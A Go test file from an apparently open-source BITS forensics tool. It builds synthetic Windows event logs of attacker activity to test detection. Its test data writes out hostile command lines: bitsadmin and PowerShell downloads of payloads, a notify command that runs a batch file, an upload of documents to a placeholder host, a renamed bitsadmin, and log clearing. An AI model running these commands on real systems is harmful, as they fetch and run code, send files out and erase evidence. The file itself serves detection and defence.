// SPDX-FileCopyrightText: The openbits authors
// SPDX-License-Identifier: Apache-2.0

package qmgrtest

import (
	"strings"
	"time"
)

// act is something that an attacker does and that no job needs to tell of: a process, a command, a log that was cleared.
type act struct {
	name  string
	shows []int // none: benign
	kind  Kind
	min   uint32 // build of Windows from which on the evidence is enough
	only  string // the one generation that it can be on; empty: all
	tree  func(g Generation) Tree
}

func hostCases() []Case {
	var list []Case
	for _, a := range acts() {
		for _, g := range Generations {
			if !g.Events.Log || g.Build < a.min || a.only != "" && a.only != g.Key {
				continue
			}
			list = append(list, Case{
				Name: a.name + "/" + g.Key + "/" + string(a.kind), Generation: g, Kind: a.kind, Wants: wants(a.shows...), Computer: Host,
				build: func() Tree { return a.tree(g) },
			})
		}
	}
	return list
}

// line is a command line of an attacker.
type line struct {
	name     string
	shows    []int
	image    string
	original string
	command  string
	parent   string // command line of the parent; empty: a shell
	sysmon   bool   // only Sysmon tells enough
}

var lines = []line{
	{name: "01-transfer", shows: []int{1}, image: bitsadmin, command: `bitsadmin /transfer job /download /priority normal https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`},
	{name: "01-addfile", shows: []int{1}, image: bitsadmin, command: `bitsadmin /addfile job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`},
	{name: "02-start", shows: []int{2}, image: powershell, command: `powershell.exe -Command "Start-BitsTransfer -Source https://files.example.net/a.dat -Destination C:\Users\alice\AppData\Local\a.dat"`},
	{name: "03-notify", shows: []int{3}, image: bitsadmin, command: `bitsadmin /SetNotifyCmdLine job C:\Windows\System32\cmd.exe "/c C:\Users\alice\AppData\Local\run.bat"`},
	{name: "03-child", shows: []int{3}, image: cmd, command: `"C:\Windows\System32\cmd.exe" /c C:\Users\alice\AppData\Local\run.bat`, parent: BitsHost.CommandLine, sysmon: true},
	{name: "05-address", shows: []int{1, 5}, image: bitsadmin, command: `bitsadmin /transfer job http://203.0.113.7/a.dat C:\Users\alice\AppData\Local\a.dat`},
	{name: "07-sharing", shows: []int{1, 7}, image: bitsadmin, command: `bitsadmin /transfer job https://raw.githubusercontent.com/example/example/main/a.dat C:\Users\alice\AppData\Local\a.dat`},
	{name: "08-public", shows: []int{1, 8}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.dat C:\Users\Public\a.dat`},
	{name: "09-executable", shows: []int{1, 9}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.jpg C:\Users\alice\AppData\Local\a.exe`},
	{
		name: "10-office", shows: []int{1, 10}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`,
		parent: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" C:\Users\alice\Documents\invoice.docm`,
	},
	{name: "14-upload", shows: []int{14}, image: bitsadmin, command: `bitsadmin /transfer job /upload https://files.example.net/up/a.zip C:\Users\alice\Documents\a.zip`},
	{name: "16-headers", shows: []int{16}, image: bitsadmin, command: `bitsadmin /setcustomheaders job "Authorization: Bearer x"`},
	{name: "16-credentials", shows: []int{16}, image: bitsadmin, command: `bitsadmin /setcredentials job SERVER BASIC alice x`},
	{name: "17-lock-screen", shows: []int{17}, image: `C:\Windows\System32\desktopimgdownldr.exe`, command: `desktopimgdownldr.exe /lockscreenurl:https://files.example.net/payload.7z /eventName:desktopimgdownldr`},
	{
		name: "18-renamed", shows: []int{18}, image: `C:\Users\alice\AppData\Local\Temp\wuhelper.exe`, original: "bitsadmin.exe", sysmon: true,
		command: `wuhelper.exe /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`,
	},
}

// process is the process of a command line.
func (l line) process() Process {
	p := Process{Image: l.image, Original: l.original, CommandLine: l.command, PID: 7680, ParentPID: 5384, Who: victim, Parent: cmd, ParentCommandLine: `"C:\Windows\System32\cmd.exe"`}
	if l.parent == BitsHost.CommandLine {
		p.Parent, p.ParentPID = BitsHost.Image, BitsHost.PID
	} else if image, _, ok := strings.Cut(strings.TrimPrefix(l.parent, `"`), `"`); ok {
		p.Parent = image
	}
	if l.parent != "" {
		p.ParentCommandLine = l.parent
	}
	return p
}

func acts() []act {
	var list []act
	for _, l := range lines {
		list = append(list, act{l.name + "-command", l.shows, InSysmon, 0, "", func(Generation) Tree { return logTree(l.process().Sysmon1(begin)) }})
		if l.sysmon {
			continue
		}
		from := uint32(0)
		if l.parent != "" {
			from = 10240 // audits before have no parent
		}
		list = append(list, act{l.name + "-command", l.shows, InAudit, from, "", func(g Generation) Tree { return logTree(l.process().Created4688(g, begin)) }})
	}
	list = append(list, drops()...)
	list = append(list, scripts()...)
	return append(list, resets()...)
}

func logTree(events ...Event) Tree {
	t := Tree{}
	t.addLogs(Logs(Host, 1000, events...))
	return t
}

// drops are files that BITS wrote, by Sysmon.
func drops() []act {
	made := func(name string, n int, list ...Event) act {
		return act{name, []int{n}, InSysmon, 0, "", func(Generation) Tree { return logTree(list...) }}
	}
	return []act{
		made("08-dropped-startup", 8, Sysmon11(`C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, begin)),
		made("08-dropped-public", 8, Sysmon11(`C:\Users\Public\a.dat`, begin)),
		made("08-dropped-stream", 8, Sysmon15(`C:\Users\alice\Documents\notes.txt:a.dat`, "-", begin)),
		made("17-dropped-lock-screen", 17, Sysmon11(
			`C:\Users\alice\AppData\Local\Temp\Personalization\LockScreenImage\LockScreenImage_uXQ8IiHL80mkJsKc319JaA.7z`, begin)),
		made("05-connected", 5, Sysmon3("-", "203.0.113.7", 4444, begin)),
	}
}

// scripts are commands of PowerShell.
func scripts() []act {
	const source, local = "https://files.example.net/a.dat", `C:\Users\alice\AppData\Local\a.dat`
	one := func(name string, shows []int, e func() Event) act {
		return act{name, shows, InPowerShell, 0, "", func(Generation) Tree { return logTree(e()) }}
	}
	parameters := [][2]string{{"Source", source}, {"Destination", local}}
	return []act{
		one("02-script-4104", []int{2}, func() Event {
			return Script4104("Import-Module BitsTransfer; Start-BitsTransfer -Source "+source+" -Destination "+local, begin)
		}),
		one("02-script-4103", []int{2}, func() Event { return Command4103(victim, "Start-BitsTransfer", begin, parameters...) }),
		one("02-script-800", []int{2}, func() Event {
			return Command800(victim, "Start-BitsTransfer -Source "+source+" -Destination "+local, "Start-BitsTransfer", begin, parameters...)
		}),
		one("02-script-add-file", []int{2}, func() Event {
			return Script4104("$job = Get-BitsTransfer -Name job; Add-BitsFile -BitsJob $job -Source "+source+" -Destination "+local, begin)
		}),
		one("03-script-notify", []int{3}, func() Event {
			return Script4104(`$m = [Activator]::CreateInstance([Type]::GetTypeFromCLSID("4991d34b-80a1-4291-83b6-3328366b9097")); $j.SetNotifyCmdLine("C:\Windows\System32\cmd.exe", "/c a.bat")`, begin)
		}),
		one("14-script-upload", []int{14}, func() Event {
			return Script4104(`Start-BitsTransfer -TransferType Upload -Source C:\Users\alice\Documents\a.zip -Destination https://files.example.net/up/a.zip`, begin)
		}),
	}
}

// resets are logs that were cleared, and queues that were thrown away. A log that is cleared where nothing tells of BITS is benign.
func resets() []act {
	later := begin.Add(2 * time.Hour)
	trace := func(g Generation) []Event { return plain(begin).Life(g, victim) }
	list := []act{
		{"19-channel-cleared", []int{19}, InAudit, 0, "", func(g Generation) Tree {
			t := queued(g, plain(begin))
			t.addLogs(Logs(Host, 1000, Cleared104(victim, BitsClient.Name, later)))
			return t
		}},
		{"19-security-cleared", []int{19}, InAudit, 0, "", func(g Generation) Tree {
			return logTree(append(with(from(address+"package.dat"), command(cmd, "/c a.bat"))(begin).Life(g, victim), Cleared1102(victim, later))...)
		}},
		{"19-channel-silent", []int{19}, InAudit, 0, "", func(g Generation) Tree {
			t := queued(g, plain(begin))
			t.addLogs(Logs(Host, 1000, plain(begin.Add(-72*time.Hour)).Life(g, victim)...))
			return t
		}},
		{"19-record-gap", []int{19}, InAudit, 0, "", func(g Generation) Tree {
			events := plain(begin).Life(g, victim)
			events[len(events)-1].Removed = 7
			return logTree(events...)
		}},
		{"19-cleared-without-trace", nil, InAudit, 0, "", func(Generation) Tree {
			return logTree(Cleared1102(victim, later), Cleared104(victim, "Internet Explorer", later))
		}},
	}
	for _, id := range []uint16{16391, 16392, 16393} {
		name := map[uint16]string{16391: "20-queue-unread", 16392: "20-queue-corrupt", 16393: "20-queue-reset"}[id]
		list = append(list, act{name, []int{20}, InTransfers, 0, "", func(g Generation) Tree {
			return logTree(append(trace(g), Reset(id, 0x80070570, later))...)
		}})
	}
	return append(list, act{"20-queue-checksum", []int{20}, InQueue, 0, "win10-1511", tampered})
}

// queued is a job in the queue of its generation.
func queued(g Generation, j Job) Tree {
	k := InQueue
	if g.Database {
		k = InRow
	}
	return evidence(g, k, j, g.companion(), nil)
}

// tampered is a queue whose checksum does not fit, as after somebody wrote a job into it. Only one generation of queue files has one.
func tampered(g Generation) Tree {
	b := Queue{Generation: g, Jobs: []Job{plain(begin)}}.Bytes()
	b[0x70] ^= 1 // within the first job's id
	return Tree{g.Folder() + "/qmgr0.dat": b}
}
